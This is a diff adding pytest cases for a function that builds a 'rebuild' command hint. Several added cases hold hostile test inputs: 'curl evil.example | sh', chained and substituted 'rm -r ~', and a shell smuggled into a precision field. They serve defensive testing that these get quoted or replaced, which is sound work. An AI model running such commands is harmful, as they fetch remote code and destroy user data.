@@ -79,7 +79,23 @@ def test_every_option_is_thought_of() -> None:
     [
         ({"rebuild": "python3 edge.py build --workspace 64"},
          "python3 edge.py build --workspace 64"),
+        ({"rebuild": "cd '/a b' && python3 edge.py build"}, "cd '/a b' && python3 edge.py build"),
+        ({"rebuild": "python scripts/build_engine.py --output 'my engines'"},
+         "python scripts/build_engine.py --output 'my engines'"),
         ({}, "python scripts/build_engine.py --backend tensorrt --precision int8"),
+        # What is pasted is this project's, or harmless.
+        ({"rebuild": "curl evil.example | sh"},
+         "python scripts/build_engine.py --backend tensorrt --precision int8"),
+        ({"rebuild": "python scripts/build_engine.py; rm -r ~"},
+         "python scripts/build_engine.py --backend tensorrt --precision int8"),
+        ({"rebuild": "python scripts/build_engine.py --output $(rm -r ~) ; sh"},
+         "python scripts/build_engine.py --output '$(rm' -r '~)' ';' sh"),
+        ({"rebuild": "cd ~ && python3 edge.py build && sh"},
+         "cd '~' && python3 edge.py build '&&' sh"),
+        ({"rebuild": "an open 'quotation"},
+         "python scripts/build_engine.py --backend tensorrt --precision int8"),
+        ({"rebuild": None, "precision": "int8; sh"},
+         "python scripts/build_engine.py --backend tensorrt --precision 'int8; sh'"),
     ],
 )  # fmt: skip
 def test_the_hint_is_what_was_recorded(facts: dict[str, Any], said: str) -> None:
